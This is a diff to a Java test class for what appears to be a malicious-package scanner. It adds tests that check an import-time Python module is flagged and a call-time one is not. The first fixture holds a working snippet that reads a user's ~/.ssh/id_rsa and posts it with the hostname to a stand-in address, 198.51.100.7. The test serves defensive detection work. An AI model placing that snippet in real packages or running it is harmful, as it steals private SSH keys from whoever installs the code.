@@ -103,6 +103,25 @@ class RulesTest {
     }
 
     @Test
+    void blocksAModuleThatReadsAnSshKeyAndSendsItAsItIsImported() throws Exception {
+        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
+                "demo/__init__.py", "import os, socket, urllib.request\n"
+                        + "_key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                        + "urllib.request.urlopen('http://198.51.100.7/c', data=(socket.gethostname() + _key).encode())\n");
+        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
+        assertTrue(rules(r).containsAll(Set.of("credential_file_access", "network_access")), r.findings().toString());
+    }
+
+    @Test
+    void aLibraryThatReadsAnSshKeyOnlyWhenCalledIsNotBlocked() throws Exception {
+        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
+                "demo/client.py", "import os, urllib.request\n\n"
+                        + "def connect(url):\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                        + "    return urllib.request.urlopen(url, data=key.encode())\n");
+        assertFalse(r.recommendation() == Recommendation.MALICIOUS, r.findings().toString());
+    }
+
+    @Test
     void aStringThatOnlyMentionsAWebhookInADocstringOfLibraryCodeIsNotBlocked() throws Exception {
         AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
                 "demo/__init__.py", "# send to https://discord.com/api/webhooks/ in your own app\n\ndef f():\n    return 1\n");
